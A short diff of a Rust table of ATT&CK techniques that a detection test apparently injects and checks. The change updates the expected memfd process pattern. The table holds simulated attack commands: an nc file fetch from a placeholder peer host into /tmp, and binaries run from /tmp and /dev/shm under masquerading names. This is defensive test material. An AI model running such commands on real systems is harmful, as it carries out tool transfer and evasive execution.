@@ -108,7 +108,7 @@ const TECHNIQUES: &[Technique] = &[
     // socket, so it would transfer nothing and only its exec would be seen.
     injected("T1105", "Ingress tool transfer (HTTP over nc)", 0, "printf 'GET /index.html HTTP/1.0\\r\\n\\r\\n' | nc -w 3 {peer} 8080 > /tmp/fetched", record!(EGRESS, &["{peer}:8080/"])),
     injected("T1204.002", "Downloaded binary run from /tmp", 0, "cp /bin/busybox /tmp/tool; /tmp/tool true", record!(PROCESSES, &["/tmp/tool"])),
-    injected("T1620", "Fileless execution from a memfd", 0, "/usr/local/bin/attack memfd-exec", record!(PROCESSES, &["/dev/fd/", "memfd:"])),
+    injected("T1620", "Fileless execution from a memfd", 0, "/usr/local/bin/attack memfd-exec", record!(PROCESSES, &["/memfd:payload"])),
     injected("T1036.005", "Masquerading: a learned name in another place", 0, "cp /bin/busybox /tmp/httpd; /tmp/httpd true", record!(PROCESSES, &["/tmp/httpd"])),
     injected("T1027", "Execution from /dev/shm", 0, "cp /bin/busybox /dev/shm/k; /dev/shm/k true",
         // /dev/shm is mounted noexec, so the run itself fails before it starts: what shows
